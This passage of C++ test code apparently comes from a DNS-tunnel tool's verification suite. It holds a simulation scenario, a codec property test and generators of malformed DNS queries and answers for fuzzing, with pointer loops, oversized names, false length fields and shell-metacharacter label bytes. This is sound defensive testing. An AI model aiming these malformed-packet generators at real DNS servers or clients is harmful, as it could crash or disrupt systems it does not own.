		for (size_t k = 30; k + 3 < pre2.size(); k++) if (pre2[k] < 255 && pre2[k + 1] >= 2 && pre2[k + 2] < 255) { pre2[k]++; pre2[k + 1] -= 2; pre2[k + 2]++; ok = true; break; }
		mA = pre; mB = pre2;
		Bytes ta = incompressible(40, 91), tb = incompressible(40, 92);
		mA.insert(mA.end(), ta.begin(), ta.end()); mB.insert(mB.end(), tb.begin(), tb.end());
		Bytes za = refproto::zcompress(mA), zb = refproto::zcompress(mB);
		ok = ok && za.size() == mA.size() + 11 && zb.size() == mB.size() + 11 && !memcmp(za.data() + 7, mA.data(), mA.size()) && !memcmp(zb.data() + 7, mB.data(), mB.size()) && (int)za.size() <= 2 * Fu;
	}
	if (!ok) { r.cls("no-crafted-pair"); return r; }
	phase = 1;
	offer(mA);
	for (int w = 0; w < 200 && !gaveup; w++) sim::W.run_for(50000);   // the client repeats A's first fragment three times, a second apart, and gives A up
	if (!gaveup) { phase = 0; r.cls("no-give-up"); sim::W.run_for(5000000); return r; }
	phase = 2;
	offer(mB);                                                        // (while it repeats a fragment the client drops what it reads from its tun device)
	for (int w = 0; w < 200 && n_b0_dropped < 2; w++) sim::W.run_for(100000);   // the client repeats A's first fragment, gives A up, sends B's first fragment
	sim::W.run_for(1500000);
	phase = 0;
	sim::W.run_for(15000000);
	r.render += scn::fmt(" | Fu=%d codec=%d A's first fragment seen %d times (seq %d), B's first fragment lost %d times (seq %d), late acknowledgement released=%d, second fragments seen=%d", Fu, up_codec, n_a0, a_seq, n_b0_dropped, b_seq, (int)released, n_b1);
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	for (auto &w : tm.writes_of(s.srv->idx)) if (std::find(offered.begin(), offered.end(), w.data) == offered.end()) {
		r.fail("C01:merged-upstream-after-give-up", scn::fmt("the server wrote a %zu-byte packet to its tun device that was never offered on the client's: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render);
		break;
	}
	r.nontrivial = n_a0 >= 1 && n_b0_dropped >= 1 && released;
	if (r.nontrivial) r.cls("upstream-give-up-then-late-acknowledgement");
	else if (getenv("VERIF_DBG")) r.cls(scn::fmt("dbg Fu=%d a0=%d b0=%d kept=%d rel=%d b1=%d aseq=%d bseq=%d lazy=%d", Fu, n_a0 > 3 ? 4 : n_a0, n_b0_dropped > 2 ? 3 : n_b0_dropped, (int)have_kept, (int)released, n_b1 > 1 ? 2 : n_b1, a_seq, b_seq, c.lazy));
	return r;
}

} // namespace advnet
