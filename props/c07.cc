// C07 -- Base32/64/64u/128 codecs are lossless, alphabet-pure and capacity-exact.
// Unit shape: calls the repository's base*_ops through glue/unit_api.c.
// Oracle = the property statement (DESIGN.md section 5, C07):
//   n <= cap, buf[n]==0, guard bytes untouched, alphabet membership, length ratio,
//   truncated text is a prefix of the full text, decode(text) == data[0:k] with k = reported
//   consumed count, chunking reproduces the input, Base32 decodes case-insensitively,
//   decoder honours its output capacity.
#include "sim/harness.h"
#include "glue/unit_api.h"
#include <cstdlib>
#include <string>
using namespace hz;

static const char *CN[4] = {"Base32", "Base64", "Base64u", "Base128"};
static const int BITS[4] = {5, 6, 6, 7};

static bool in_alphabet(int c, unsigned char ch)
{
	bool az = ch >= 'a' && ch <= 'z', AZ = ch >= 'A' && ch <= 'Z', d = ch >= '0' && ch <= '9';
	switch (c) {
	case 0: return az || (ch >= '0' && ch <= '5');
	case 1: return az || AZ || d || ch == '-' || ch == '+';
	case 2: return az || AZ || d || ch == '-' || ch == '_';
	default: return az || AZ || d || (ch >= 0xBC && ch <= 0xFD);
	}
}

static int xcmp(const void *a, const void *b, size_t n) { return n ? memcmp(a, b, n) : 0; }
static const unsigned char DUMMY[1] = {0};
static const unsigned char *dp(const Bytes &d) { return d.empty() ? DUMMY : d.data(); }
static size_t enc_len(int c, size_t n) { return (8 * n + BITS[c] - 1) / BITS[c]; }

struct Guarded {
	// cap+1 usable bytes followed by 32 guard bytes (ASan additionally guards the heap block)
	std::vector<unsigned char> v;
	size_t cap;
	explicit Guarded(size_t cap_) : v(cap_ + 1 + 32, 0xEE), cap(cap_) {}
	char *p() { return (char *)v.data(); }
	bool guard_ok() const { for (size_t i = cap + 1; i < v.size(); i++) if (v[i] != 0xEE) return false; return true; }
};

static std::string ctx(int c, const Bytes &d, size_t cap)
{
	char b[160];
	snprintf(b, sizeof b, "codec=%s len=%zu cap=%zu data=", CN[c], d.size(), cap);
	return std::string(b) + hexs(d, 40);
}

// full check of one (codec, data, cap); returns "" or a violation text
static std::string check_one(int c, const Bytes &data, size_t cap, std::string *sig)
{
	const size_t len = data.size();
	// full-capacity reference text from the same encoder
	size_t bigcap = enc_len(c, len) + 16;
	Guarded full(bigcap);
	size_t kfull = bigcap;
	int nfull = v_encode(c, full.p(), &kfull, dp(data), len);
	if (nfull < 0 || (size_t)nfull != enc_len(c, len)) { *sig = "C07:ratio"; return "encoded length " + std::to_string(nfull) + " != ceil(8*len/bits) " + std::to_string(enc_len(c, len)); }
	if (kfull != len) { *sig = "C07:consumed-full"; return "ample capacity but consumed " + std::to_string(kfull) + " of " + std::to_string(len); }
	if (full.p()[nfull] != 0) { *sig = "C07:terminator"; return "no terminator after full text"; }
	if (!full.guard_ok()) { *sig = "C07:overrun"; return "guard bytes overwritten (full capacity)"; }
	for (int i = 0; i < nfull; i++)
		if (!in_alphabet(c, (unsigned char)full.p()[i])) { *sig = "C07:alphabet"; char b[64]; snprintf(b, sizeof b, "char 0x%02x at %d outside alphabet", (unsigned char)full.p()[i], i); return b; }

	Guarded out(cap);
	size_t k = cap;
	int n = v_encode(c, out.p(), &k, dp(data), len);
	if (n < 0 || (size_t)n > cap) { *sig = "C07:cap-exceeded"; return "returned " + std::to_string(n) + " > cap"; }
	if (!out.guard_ok()) { *sig = "C07:overrun"; return "wrote past cap+1"; }
	if (out.p()[n] != 0) { *sig = "C07:terminator"; return "buf[n] != 0"; }
	if (k > len) { *sig = "C07:consumed-range"; return "consumed " + std::to_string(k) + " > len"; }
	if (xcmp(out.p(), full.p(), n) != 0) { *sig = "C07:prefix"; return "truncated text is not a prefix of the full text"; }
	if (cap >= (size_t)nfull && (k != len || n != nfull)) { *sig = "C07:sufficient-cap"; return "capacity suffices but text/consumed truncated"; }
	// decode what was emitted: must be exactly data[0:k]
	Guarded dec(len + 8);
	size_t dcap = len + 8;
	int m = v_decode(c, dec.p(), &dcap, out.p(), (size_t)n);
	if (!dec.guard_ok()) { *sig = "C07:dec-overrun"; return "decoder wrote past its capacity"; }
	if (m < 0 || (size_t)m != k) { *sig = "C07:consumed-mismatch"; return "decoder yields " + std::to_string(m) + " bytes, encoder reported " + std::to_string(k); }
	if (xcmp(dec.p(), data.data(), k) != 0) { *sig = "C07:roundtrip"; return "decode(encode(x)) != x[0:k]"; }
	// progress: room for one encoded block and input left => at least one byte consumed
	if (len > 0 && cap >= (size_t)v_blk_enc(c) && k == 0) { *sig = "C07:noprogress"; return "a whole block of room but nothing consumed"; }
	if (c == 0 && n > 0) {
		std::string up(out.p(), n);
		for (auto &ch : up) if (ch >= 'a' && ch <= 'z') ch = (char)(ch - 32);
		Guarded d2(len + 8); size_t c2 = len + 8;
		int m2 = v_decode(0, d2.p(), &c2, up.c_str(), up.size());
		if (m2 != m || xcmp(d2.p(), dec.p(), m) != 0) { *sig = "C07:b32-case"; return "upper-cased Base32 decodes differently"; }
	}
	return "";
}

static std::string check_chunking(int c, const Bytes &data, Tape *t, size_t fixedcap, std::string *sig)
{
	size_t off = 0; Bytes got; int rounds = 0;
	while (off < data.size()) {
		size_t cap = t ? (size_t)t->range(v_blk_enc(c), 80) : fixedcap;
		Guarded out(cap); size_t k = cap;
		int n = v_encode(c, out.p(), &k, dp(data) + off, data.size() - off);
		if (n < 0 || (size_t)n > cap || !out.guard_ok()) { *sig = "C07:overrun"; return "chunk encode overran"; }
		if (k == 0) { *sig = "C07:noprogress"; return "chunk consumed nothing with cap " + std::to_string(cap); }
		Guarded dec(k + 8); size_t dcap = k + 8;
		int m = v_decode(c, dec.p(), &dcap, out.p(), n);
		if (m < 0) m = 0;
		got.insert(got.end(), (unsigned char *)dec.p(), (unsigned char *)dec.p() + m);
		off += k;
		if (++rounds > 100000) break;
	}
	if (got != data) { *sig = "C07:chunking"; return "concatenated chunk decodings differ from the input"; }
	return "";
}

static std::string check_decoder_capacity(int c, const Bytes &data, size_t dcap_small, std::string *sig)
{
	size_t bigcap = enc_len(c, data.size()) + 4;
	Guarded full(bigcap); size_t k = bigcap;
	int n = v_encode(c, full.p(), &k, dp(data), data.size());
	Guarded dec(dcap_small); size_t dc = dcap_small;
	int m = v_decode(c, dec.p(), &dc, full.p(), n);
	if (!dec.guard_ok()) { *sig = "C07:dec-overrun"; return "decoder wrote past capacity+1"; }
	size_t want = std::min(dcap_small, data.size());
	if (m < 0 || (size_t)m != want) { *sig = "C07:dec-cap"; return "decoder with capacity " + std::to_string(dcap_small) + " returned " + std::to_string(m); }
	if (xcmp(dec.p(), data.data(), want) != 0) { *sig = "C07:dec-cap"; return "capacity-limited decode is not a prefix of the input"; }
	// slen shorter than the text / NUL inside: decoding a prefix of the text yields a prefix of the data
	if (n > 2) {
		size_t sl = (size_t)n / 2;
		Guarded d3(data.size() + 8); size_t c3 = data.size() + 8;
		int m3 = v_decode(c, d3.p(), &c3, full.p(), sl);
		if (m3 < 0 || (size_t)m3 > data.size() || xcmp(d3.p(), data.data(), m3) != 0) { *sig = "C07:dec-slen"; return "decoding a text prefix does not give a data prefix"; }
	}
	return "";
}

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	int c = (int)t.below(4);
	size_t len;
	switch (t.pick({4, 3, 2, 1})) {
	case 0: len = t.below(40); break;
	case 1: len = t.below(300); break;
	case 2: len = t.below(4097); break;
	default: len = (size_t)v_blk_raw(c) * t.below(20) + t.below(2); break;
	}
	Bytes data = t.bytes_of(len);
	size_t need = enc_len(c, len);
	size_t cap;
	switch (t.pick({3, 3, 2, 1})) {
	case 0: cap = t.below((uint32_t)(2 * len + 4)); break;
	case 1: cap = need > 6 ? need - 6 + t.below(12) : t.below(12); break;
	case 2: cap = need + t.below(5); break;
	default: cap = t.below(9); break;
	}
	r.render = ctx(c, data, cap);
	std::string sig, e = check_one(c, data, cap, &sig);
	if (e.empty() && len > 0) e = check_chunking(c, data, &t, 0, &sig);
	if (e.empty()) e = check_decoder_capacity(c, data, t.below((uint32_t)len + 3), &sig);
	// the decoder on text that is NOT encoder output (what the peer may send): arbitrary bytes incl. >= 0x80 and NUL.
	// Judged: it stays inside its output capacity (+1 for the terminator) and inside its tables (ASan/UBSan), and the
	// result is a deterministic function of the text (decoded twice).
	if (e.empty() && t.chance(1, 4)) {
		Bytes txt = t.bytes_of(t.below(300));
		size_t dc = t.chance(1, 2) ? 512 : t.below(64);
		Guarded d1(dc + 1), d2(dc + 1); size_t c1 = dc, c2 = dc;
		int m1 = v_decode(c, d1.p(), &c1, (const char *)txt.data(), txt.size());
		int m2 = v_decode(c, d2.p(), &c2, (const char *)txt.data(), txt.size());
		if (!d1.guard_ok() || !d2.guard_ok()) { sig = "C07:dec-overrun"; e = "decoder wrote past capacity+1 on arbitrary text"; }
		else if (m1 < 0 || (size_t)m1 > dc || m1 != m2 || xcmp(d1.p(), d2.p(), (size_t)std::max(m1, 0)) != 0) { sig = "C07:dec-arbitrary"; e = "decoder result on arbitrary text exceeds its capacity or is not deterministic"; }
		r.cls("decoder-on-arbitrary-text");
	}
	if (!e.empty()) r.fail(sig, e + " [" + r.render + "]");
	bool hi = false; for (auto b : data) if (b >= 0x80) hi = true;
	r.nontrivial = len >= 1 && (cap < need || len % v_blk_raw(c) != 0 || hi);
	r.cls(std::string("codec:") + CN[c]);
	if (cap < need) r.cls("truncating"); else r.cls("fits");
	if (len > 255) r.cls("len>255");
	return r;
}

// ------------------------------------------------------------------ exhaustive sub-domains
static bool exhaustive(Stats &st, std::string &msg)
{
	std::string sig;
	uint64_t n_small = 0, n_pairs = 0, n_len = 0;
	for (int c = 0; c < 4; c++) {
		if (c % enum_parts != enum_part) continue;
		// (a) all inputs of length 0,1,2 x all capacities 0..2*len+4
		for (int len = 0; len <= 2; len++) {
			uint32_t total = len == 0 ? 1 : (len == 1 ? 256 : 65536);
			for (uint32_t v = 0; v < total; v++) {
				Bytes d(len);
				if (len >= 1) d[0] = (uint8_t)(v & 0xff);
				if (len == 2) d[1] = (uint8_t)(v >> 8);
				for (size_t cap = 0; cap <= (size_t)(2 * len + 4); cap++) {
					std::string e = check_one(c, d, cap, &sig);
					if (!e.empty()) { msg = sig + ": " + e + " [" + ctx(c, d, cap) + "]"; return false; }
					uint64_t key[4] = {(uint64_t)c, (uint64_t)len, v, cap}; uint64_t h = fnv(key, sizeof key);
					st.add_enum(h, len >= 1, "enum:len<=2");
					n_small++;
				}
			}
		}
		// (b) every adjacent byte pair at every offset of a block inside a 3-block message
		int br = v_blk_raw(c);
		for (int pos = 0; pos < br; pos++) {
			for (uint32_t v = 0; v < 65536; v++) {
				Bytes d(3 * br);
				for (size_t i = 0; i < d.size(); i++) d[i] = (uint8_t)(0x5a + 31 * i);
				d[br + pos] = (uint8_t)(v & 0xff);
				d[br + pos + 1] = (uint8_t)(v >> 8);
				std::string e = check_one(c, d, enc_len(c, d.size()), &sig);
				if (!e.empty()) { msg = sig + ": " + e + " [" + ctx(c, d, 9999) + "]"; return false; }
				st.add_enum(fnv(&v, 4, 5000 + c * 100 + pos), true, "enum:pairs");
				n_pairs++;
			}
		}
		// (c) every length 0..4096 with three contents: full capacity and a window around block boundaries
		for (size_t len = 0; len <= 4096; len++) {
			for (int content = 0; content < 3; content++) {
				Bytes d(len);
				for (size_t i = 0; i < len; i++) d[i] = content == 0 ? 0 : (content == 1 ? 0xff : (uint8_t)i);
				size_t need = enc_len(c, len);
				size_t caps[8] = {need, need ? need - 1 : 0, need + 1, need > 2 ? need - 2 : 0,
						  (size_t)v_blk_enc(c) * (need / v_blk_enc(c) / 2), need / 2, need / 2 + 1, 3};
				int ncaps = (len % 16 == 0 || len < 64) ? 8 : 3;
				for (int q = 0; q < ncaps; q++) {
					std::string e = check_one(c, d, caps[q], &sig);
					if (!e.empty()) { msg = sig + ": " + e + " [" + ctx(c, d, caps[q]) + "]"; return false; }
					uint64_t key = (uint64_t)len * 64 + content * 16 + q;
					st.add_enum(fnv(&key, 8, 9000 + c), len >= 1, "enum:lengths");
					n_len++;
				}
				if (len > 0 && (len % 97 == 0 || len < 40)) {
					std::string e = check_chunking(c, d, nullptr, (size_t)v_blk_enc(c) + (len % 50), &sig);
					if (!e.empty()) { msg = sig + ": " + e + " [" + ctx(c, d, 0) + "]"; return false; }
				}
			}
		}
		// 5-bit helpers used in the protocol headers
		if (c == 0)
			for (int v = 0; v < 32; v++) {
				int ch = v_b32_5to8(v);
				if (!in_alphabet(0, (unsigned char)ch) || v_b32_8to5(ch) != v ||
				    (ch >= 'a' && ch <= 'z' && v_b32_8to5(ch - 32) != v)) { msg = "C07:b32-5to8: 5-bit helper round trip fails for " + std::to_string(v); return false; }
			}
	}
	st.extra["enum_small_inputs"] = std::to_string(n_small);
	st.extra["enum_byte_pairs"] = std::to_string(n_pairs);
	st.extra["enum_lengths"] = std::to_string(n_len);
	st.sample("enumerated: all inputs of length 0..2 x capacities 0..2len+4; all 65536 adjacent byte pairs at every block offset; every length 0..4096 x {00,ff,counting} x capacity windows; 4 codecs", true);
	return true;
}

int main(int argc, char **argv)
{
	PropDef d;
	d.id = "C07";
	d.run = run_case;
	d.exhaustive = exhaustive;
	d.tape_scale = 1.0;
	return harness_main(argc, argv, d);
}
