// maldns.h -- generators of hostile DNS messages (every malformation is a named generator choice so that the
// coverage of malformation classes can be counted): hostile queries for the server (C05) and hostile answers
// for the client (C06), plus residue-sensitive shapes for C12.
#pragma once
#include "sim/harness.h"
#include "ref/refdns.h"
#include "ref/refproto.h"
#include <map>

namespace mal {
using namespace hz;

struct Stats { std::map<std::string, int> kinds; void hit(const std::string &k) { kinds[k]++; } };

inline void put16(Bytes &b, uint16_t v) { b.push_back((uint8_t)(v >> 8)); b.push_back((uint8_t)v); }
inline void put32(Bytes &b, uint32_t v) { put16(b, (uint16_t)(v >> 16)); put16(b, (uint16_t)v); }

inline uint8_t label_byte(Tape &t, int cls)
{
	switch (cls) {
	case 0: return (uint8_t)"abcdefghijklmnopqrstuvwxyz012345"[t.below(32)];
	case 1: return (uint8_t)"ABCDEFGHIJKLMNOPQRSTUVWXYZ6789-+_"[t.below(33)];
	case 2: return (uint8_t)(0x80 + t.below(128));
	case 3: return (uint8_t)t.below(256);
	default: return (uint8_t)"\0.\n ;$`/\\"[t.below(9)];
	}
}

// Appends a (possibly hostile) encoded name to the message `m`.  `suffix` (dotted, may be empty) is appended as proper
// labels when the builder decides to end the name normally, so that the name lands inside the tunnel domain.
inline void hostile_name(Tape &t, Bytes &m, const std::string &suffix, const std::string &first, Stats &st, bool allow_bad = true)
{
	size_t start = m.size();
	int nlab = (int)t.pick({2, 4, 3, 2, 1, 1}) + 0;
	bool first_done = false;
	for (int k = 0; k < nlab; k++) {
		size_t len;
		switch (t.pick({5, 2, 1, 1})) { case 0: len = 1 + t.below(20); break; case 1: len = 40 + t.below(24); break; case 2: len = 63; break; default: len = 1 + t.below(63); break; }
		Bytes lab;
		if (!first_done && !first.empty()) { lab.insert(lab.end(), first.begin(), first.end()); first_done = true; }
		int cls = (int)t.pick({6, 2, 2, 1, 1});
		while (lab.size() < len) lab.push_back(label_byte(t, cls));
		if (lab.size() > 63) lab.resize(63);
		m.push_back((uint8_t)lab.size()); m.insert(m.end(), lab.begin(), lab.end());
		if (cls >= 2) st.hit(cls == 2 ? "name:bytes>=0x80" : (cls == 3 ? "name:arbitrary-bytes" : "name:nul-dot-shell-bytes"));
	}
	if (!first_done && !first.empty()) { m.push_back((uint8_t)first.size()); m.insert(m.end(), first.begin(), first.end()); }
	int ending = allow_bad ? (int)t.pick({10, 2, 2, 2, 1, 1, 1, 1, 2, 1}) : 0;
	auto put_suffix = [&]() { if (!suffix.empty()) for (auto &l : refdns::split_labels(suffix)) { m.push_back((uint8_t)l.size()); m.insert(m.end(), l.begin(), l.end()); } m.push_back(0); };
	switch (ending) {
	case 0: put_suffix(); break;
	case 1: put16(m, (uint16_t)(0xC000 | 12)); st.hit("name:pointer-to-question"); break;
	case 2: put16(m, (uint16_t)(0xC000 | (start & 0x3fff))); st.hit("name:pointer-loop"); break;
	case 3: { size_t target = m.size() + 2 + t.below(4); put16(m, (uint16_t)(0xC000 | (target & 0x3fff))); st.hit("name:pointer-to-or-past-end"); break; }
	case 4: put16(m, (uint16_t)(0xC000 | t.below(0x4000))); st.hit("name:pointer-random"); break;
	case 5: m.push_back((uint8_t)(64 + t.below(128))); for (int i = 0; i < 5; i++) m.push_back((uint8_t)t.below(256)); m.push_back(0); st.hit("name:reserved-label-type"); break;
	case 6: st.hit("name:unterminated"); break;   // no terminator: whatever follows is taken for labels
	case 7: { // 255+ octets
		while (m.size() - start < 250 + t.below(40)) { size_t l = 1 + t.below(63); m.push_back((uint8_t)l); for (size_t i = 0; i < l; i++) m.push_back(label_byte(t, 0)); }
		put_suffix(); st.hit("name:over-255-octets"); break;
	}
	case 8: { // pointer chain: two pointers pointing at each other / a chain that ends in the suffix written later
		size_t a = m.size(); put16(m, (uint16_t)(0xC000 | ((a + 2) & 0x3fff))); put16(m, (uint16_t)(0xC000 | (a & 0x3fff))); st.hit("name:pointer-pair-loop"); break;
	}
	default: m.push_back(0); st.hit("name:no-suffix"); break;
	}
}

// A hostile *query* datagram for the server.  With `cmd` != 0 the name starts with that command character.
inline Bytes hostile_query(Tape &t, const std::string &domain, char cmd, Stats &st)
{
	Bytes m;
	put16(m, (uint16_t)t.below(65536));
	static const uint16_t FL[] = {0x0100, 0x0000, 0x8180, 0x0120, 0x7900};
	size_t fk = t.pick({8, 1, 1, 1, 1});
	put16(m, fk == 4 ? (uint16_t)t.below(65536) : FL[fk]);
	if (fk == 2) st.hit("query:qr-bit-set");
	static const uint16_t CNT[] = {1, 0, 2, 3, 65535, 255};
	size_t qk = t.pick({10, 1, 1, 1, 1, 1});
	put16(m, CNT[qk]); if (qk) st.hit("query:qdcount-odd");
	for (int s = 0; s < 3; s++) { size_t ck = t.pick({10, 2, 1, 1}); put16(m, ck == 0 ? 0 : (ck == 1 ? 1 : (ck == 2 ? 65535 : (uint16_t)t.below(65536)))); if (ck >= 2) st.hit("query:section-count-large"); }
	int nq = qk == 1 ? 0 : (qk == 2 || qk == 3 ? (int)CNT[qk] : 1);
	static const uint16_t TY[] = {10, 65399, 16, 33, 15, 5, 1, 2, 28, 255, 41, 0};
	for (int k = 0; k < nq; k++) {
		std::string first = k == 0 && cmd ? std::string(1, cmd) : std::string();
		hostile_name(t, m, t.chance(5, 6) ? domain : std::string(), first, st);
		put16(m, t.chance(1, 12) ? (uint16_t)t.below(65536) : TY[t.below(12)]);
		put16(m, t.chance(1, 10) ? (uint16_t)t.below(65536) : 1);
	}
	// optional records (OPT or junk)
	int nr = (int)t.pick({6, 3, 1});
	for (int k = 0; k < nr; k++) {
		if (t.chance(1, 2)) { m.push_back(0); put16(m, 41); put16(m, 4096); put32(m, t.chance(1, 2) ? 0x8000 : t.u32()); size_t rl = t.pick({4, 1, 1}) == 0 ? 0 : t.below(40); put16(m, t.chance(1, 6) ? (uint16_t)(rl + 1 + t.below(5000)) : (uint16_t)rl); for (size_t i = 0; i < rl; i++) m.push_back((uint8_t)t.below(256)); }
		else { hostile_name(t, m, "", "", st); put16(m, TY[t.below(12)]); put16(m, 1); put32(m, t.u32()); size_t rl = t.below(60); put16(m, t.chance(1, 4) ? (uint16_t)t.below(65536) : (uint16_t)rl); for (size_t i = 0; i < rl; i++) m.push_back((uint8_t)t.below(256)); }
	}
	switch (t.pick({8, 2, 1})) {
	case 1: if (m.size() > 1) { m.resize(t.below((uint32_t)m.size())); st.hit("query:truncated"); } break;
	case 2: { size_t g = 1 + t.below(300); for (size_t i = 0; i < g; i++) m.push_back((uint8_t)t.below(256)); st.hit("query:trailing-garbage"); break; }
	default: break;
	}
	return m;
}

inline Bytes raw_bytes(Tape &t, Stats &st)
{
	static const size_t L[] = {0, 1, 2, 3, 4, 11, 12, 13, 16, 17, 18, 19, 20, 255, 256, 512, 513, 1500, 4095, 4096, 4097};
	size_t n;
	switch (t.pick({6, 6, 2, 1})) { case 0: n = L[t.below(sizeof L / sizeof L[0])]; break; case 1: n = t.below(200); break; case 2: n = t.below(5000); break; default: n = 60000 + t.below(5507); st.hit("raw:huge-datagram"); break; }
	Bytes b = t.bytes_of(n);
	if (t.chance(1, 3) && b.size() >= 3) { b[0] = 0x10; b[1] = 0xd1; b[2] = 0x9e; st.hit("raw:magic-prefix"); }
	st.hit("raw:bytes");
	return b;
}

} // namespace mal

namespace mal {

// rdata name for CNAME/MX/SRV answers: mostly "looks like encoded data" so that the client's decoders run
inline void answer_name(Tape &t, Bytes &m, Stats &st, size_t qname_off)
{
	(void)qname_off;
	static const char PFX[] = "hijkHIJKtsuvrxz";
	switch (t.pick({6, 2, 2, 1})) {
	case 0: {   // well-formed: prefix + encoded-looking labels + ".xy"
		size_t total = t.chance(1, 3) ? 200 + t.below(54) : 5 + t.below(120);
		size_t used = 0; bool first = true;
		while (used < total) {
			size_t l = std::min<size_t>(std::min<size_t>(63, total - used), 1 + (t.chance(2, 3) ? 56 : t.below(63)));
			m.push_back((uint8_t)l);
			for (size_t i = 0; i < l; i++) { uint8_t c = first && i == 0 ? (uint8_t)PFX[t.below(sizeof PFX - 1)] : label_byte(t, (int)t.pick({8, 2, 2, 1})); m.push_back(c); }
			first = false; used += l + 1;
		}
		m.push_back(2); m.push_back('a' + (uint8_t)t.below(26)); m.push_back('a' + (uint8_t)t.below(25)); m.push_back(0);
		st.hit("ans:name-encoded"); break;
	}
	case 1: hostile_name(t, m, "", std::string(1, PFX[t.below(sizeof PFX - 1)]), st); st.hit("ans:name-hostile"); break;
	case 2: {   // 255-octet name
		size_t start = m.size();
		m.push_back(63); m.push_back((uint8_t)PFX[t.below(8)]); for (int i = 0; i < 62; i++) m.push_back(label_byte(t, 0));
		while (m.size() - start < 250) { size_t l = std::min<size_t>(63, 253 - (m.size() - start)); if (l < 1) break; m.push_back((uint8_t)l); for (size_t i = 0; i < l; i++) m.push_back(label_byte(t, 0)); }
		m.push_back(0); st.hit("ans:name-255"); break;
	}
	default: m.push_back(0); st.hit("ans:name-root"); break;
	}
}

// A hostile *answer* datagram for the client.  It echoes id and question of `q` (so that the client takes it for the
// reply to its latest query) unless the generator decides otherwise.
inline Bytes hostile_answer(Tape &t, const refproto::Query &q, Stats &st, int *nrec_out = nullptr)
{
	Bytes m;
	bool match_id = !t.chance(1, 12);
	put16(m, match_id ? q.id : (uint16_t)(q.id + 1 + t.below(5000)));
	static const uint16_t FL[] = {0x8400, 0x8180, 0x8402, 0x8403, 0x8405, 0x0400, 0x8600};
	size_t fk = t.pick({10, 3, 2, 2, 1, 1, 1});
	put16(m, FL[fk]); if (fk >= 2) st.hit(fk == 5 ? "ans:qr-clear" : "ans:rcode-or-tc");
	size_t qk = t.pick({12, 1, 1});
	put16(m, qk == 0 ? 1 : (qk == 1 ? 0 : 2));
	size_t ancount_pos = m.size();
	put16(m, 0); put16(m, t.chance(1, 10) ? (uint16_t)t.below(3) : 0); put16(m, t.chance(1, 10) ? (uint16_t)t.below(3) : 0);
	size_t qoff = m.size();
	if (qk != 1) {
		if (t.chance(1, 15)) { hostile_name(t, m, "", std::string(1, q.name.empty() ? 'p' : q.name[0]), st); st.hit("ans:question-hostile"); }
		else { for (auto &l : refdns::split_labels(q.name)) { m.push_back((uint8_t)l.size()); m.insert(m.end(), l.begin(), l.end()); } m.push_back(0); }
		uint16_t qt = q.qtype; if (t.chance(1, 15)) { static const uint16_t TY[] = {10, 65399, 16, 33, 15, 5, 1}; qt = TY[t.below(7)]; st.hit("ans:question-type-changed"); }
		put16(m, qt); put16(m, 1);
	}
	uint16_t rtype = q.qtype;
	if (q.qtype == refdns::T_A) rtype = t.chance(1, 5) ? refdns::T_A : refdns::T_CNAME;
	if (t.chance(1, 12)) { static const uint16_t TY[] = {10, 65399, 16, 33, 15, 5, 1, 2, 41}; rtype = TY[t.below(9)]; st.hit("ans:record-type-differs"); }
	int nrec = 1;
	if (rtype == refdns::T_MX || rtype == refdns::T_SRV) { switch (t.pick({4, 3, 2, 2})) { case 0: nrec = 1 + (int)t.below(4); break; case 1: nrec = 5 + (int)t.below(30); break; case 2: nrec = 240 + (int)t.below(25); break; default: nrec = 17 + (int)t.below(60); break; } }
	else nrec = (int)t.pick({1, 10, 1, 1});
	int prefmode = (int)t.pick({5, 2, 1, 1, 1});   // 0 10,20,..  1 shuffled  2 duplicates  3 extreme values  4 random
	for (int k = 0; k < nrec; k++) {
		if (t.chance(1, 25)) answer_name(t, m, st, qoff); else put16(m, (uint16_t)(0xC000 | qoff));
		put16(m, rtype); put16(m, t.chance(1, 20) ? (uint16_t)t.below(65536) : 1); put32(m, t.chance(1, 2) ? 0 : t.u32());
		size_t rdlen_pos = m.size(); put16(m, 0);
		size_t rd_start = m.size();
		if (rtype == refdns::T_MX || rtype == refdns::T_SRV) {
			uint16_t pref;
			switch (prefmode) { case 0: pref = (uint16_t)(10 * (k + 1)); break; case 1: pref = (uint16_t)(10 * (1 + (k * 7919) % std::max(1, nrec))); break; case 2: pref = (uint16_t)(10 * (1 + k / 2)); break;
			case 3: { static const uint16_t X[] = {0, 5, 10, 2480, 2490, 2500, 2510, 65530, 65535, 15}; pref = X[t.below(10)]; break; } default: pref = (uint16_t)t.below(65536); break; }
			put16(m, pref);
			if (rtype == refdns::T_SRV) { put16(m, 10); put16(m, 5060); }
			answer_name(t, m, st, qoff);
		} else if (rtype == refdns::T_CNAME || rtype == 2) answer_name(t, m, st, qoff);
		else if (rtype == refdns::T_TXT) {
			static const char PFX[] = "tsuvrTSUVRhx";
			size_t total; switch (t.pick({3, 3, 2, 1})) { case 0: total = t.below(60); break; case 1: total = t.below(600); break; case 2: total = 4000 + t.below(400); break; default: total = 20000 + t.below(45000); break; }
			size_t done = 0; bool first = true;
			while (done < total) {
				size_t l = std::min<size_t>(255, total - done); if (t.chance(1, 4)) l = 1 + t.below((uint32_t)l);
				uint8_t lenbyte = (uint8_t)l; if (t.chance(1, 20)) { lenbyte = (uint8_t)std::min<size_t>(255, l + 1 + t.below(40)); st.hit("ans:txt-string-overruns"); }
				m.push_back(lenbyte);
				int cls = (int)t.pick({6, 2, 2, 2});
				for (size_t i = 0; i < l; i++) m.push_back(first && i == 0 ? (uint8_t)PFX[t.below(sizeof PFX - 1)] : label_byte(t, cls));
				first = false; done += l;
			}
			if (total > 4000) st.hit("ans:txt-larger-than-4096");
		} else {   // NULL / PRIVATE / A / other: raw bytes
			size_t n; switch (t.pick({4, 3, 2, 1, 1})) { case 0: n = t.below(40); break; case 1: n = t.below(1500); break; case 2: n = 4090 + t.below(12); break; case 3: n = 5000 + t.below(4000); break; default: n = 30000 + t.below(30000); break; }
			Bytes b = t.bytes_of(n);
			if (t.chance(1, 2) && b.size() >= 2) { b[0] = (uint8_t)(0x80 | t.below(128)); b[1] = (uint8_t)t.below(256); }
			m.insert(m.end(), b.begin(), b.end());
			if (n > 4096) st.hit("ans:null-larger-than-4096");
		}
		size_t rdlen = m.size() - rd_start;
		size_t lie = rdlen;
		switch (t.pick({14, 1, 1, 1, 1})) { case 1: lie = rdlen + 1 + t.below(4096); break; case 2: lie = rdlen > 0 ? t.below((uint32_t)rdlen) : 0; break; case 3: lie = 65535; break; case 4: lie = 0; break; default: break; }
